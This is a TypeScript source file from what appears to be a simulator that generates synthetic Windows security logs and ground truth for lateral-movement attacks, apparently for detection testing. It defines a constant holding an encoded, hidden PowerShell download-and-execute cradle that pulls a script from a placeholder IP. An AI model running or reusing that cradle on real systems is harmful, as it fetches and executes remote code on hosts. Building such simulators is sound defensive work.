import { type Account, type EventModel, security } from '../events/index.ts';
import { seconds } from '../evtx/filetime.ts';
import type { CallRecords, RemoteCall } from './calls.ts';
import type { SimulatedHost, SimulatedProcess } from './host.ts';
import type { TrueAttack, TrueHop } from './truth.ts';

/** An attack as it is recorded, in no order, with what really happened. */
export interface SimulatedAttack {
  readonly truth: TrueAttack;
  readonly events: readonly EventModel[];
}

/** Where and when an attack happens. */
export interface AttackPlan {
  /** True time, FILETIME. */
  readonly time: bigint;
  readonly source: SimulatedHost;
  readonly target: SimulatedHost;
  readonly account: Account;
}

export const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
export const CMD = 'C:\\Windows\\System32\\cmd.exe';
export const WMIC = 'C:\\Windows\\System32\\wbem\\WMIC.exe';
const EXPLORER = 'C:\\Windows\\explorer.exe';
const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');
export const CRADLE: string = `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')")}`;

export const nameOf = (account: Account): string => `${account.domain}\\${account.name}`;

/** A shell of somebody who signed in at the source this morning. */
function shellOf(out: EventModel[], host: SimulatedHost, account: Account, time: bigint): SimulatedProcess {
  const logonId = host.logonId();
  const signedIn = time - seconds(1800);
  out.push(
    security.logon(
      {
        account,
        logonId,
        type: 2,
        logonProcess: 'User32 ',
        authentication: 'Negotiate',
        address: '127.0.0.1',
        port: 0,
        subject: security.subject(host.machineAccount(), 0x3e7n),
        processName: 'C:\\Windows\\System32\\svchost.exe',
        isElevated: false,
      },
      host.at(signedIn),
    ),
  );
  return host.running(EXPLORER, account, logonId, signedIn + seconds(2));
}

export function toolOf(out: EventModel[], plan: AttackPlan, image: string, commandLine: string): SimulatedProcess {
  return plan.source.start(out, plan.time - seconds(2), {
    image,
    commandLine,
    parent: shellOf(out, plan.source, plan.account, plan.time),
    terminalSession: 1,
    integrity: 'High',
  });
}

export function hopOf(
  call: RemoteCall,
  records: CallRecords,
  child: { readonly process: SimulatedProcess; readonly time: bigint },
  method: TrueHop['method'] = 'wmi-dcom',
): TrueHop {
  const { source, target, caller } = call;
  return {
    target: target.computer,
    account: nameOf(call.account),
    method,
    time: child.time + target.clockOffset,
    source: {
      ...(source === undefined ? {} : { computer: source.computer }),
      address: records.address,
      ...(caller === undefined ? {} : { pid: caller.pid }),
    },
    childPid: child.process.pid,
    commandLine: child.process.commandLine,
  };
}
